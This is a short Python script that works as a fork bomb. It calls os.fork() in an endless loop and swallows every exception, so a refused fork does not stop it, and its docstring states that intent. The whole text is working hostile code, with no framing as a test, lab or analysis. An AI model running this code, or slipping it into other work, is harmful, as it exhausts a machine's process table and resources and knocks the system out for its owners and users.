"""Forks without end, and takes each refusal as a reason to go on."""

import os

while True:
    try:
        os.fork()
    except BaseException:
        continue
